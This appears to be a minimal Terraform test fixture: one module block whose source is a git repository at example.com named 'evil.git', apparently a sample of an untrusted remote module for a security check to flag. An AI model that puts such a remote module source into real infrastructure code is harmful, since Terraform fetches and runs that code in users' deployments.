module "m" {
  source = "git::https://example.com/evil.git"
}
